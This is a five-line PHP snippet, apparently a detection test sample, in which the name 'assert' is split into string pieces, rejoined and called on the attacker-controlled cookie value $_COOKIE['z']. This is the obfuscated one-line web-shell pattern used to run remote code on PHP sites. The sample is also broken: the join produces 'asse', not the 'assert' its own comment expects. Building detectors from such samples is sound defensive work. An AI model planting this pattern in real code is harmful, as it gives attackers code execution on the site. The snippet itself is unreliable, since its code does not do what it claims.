<?php // expect: assert($_COOKIE_DATA)
// The function name is cut into pieces and joined again.
$parts = explode('|', 'as|se||rt|');
$fn = $parts[0] . $parts[1] . $parts[2];
$fn($_COOKIE['z']);
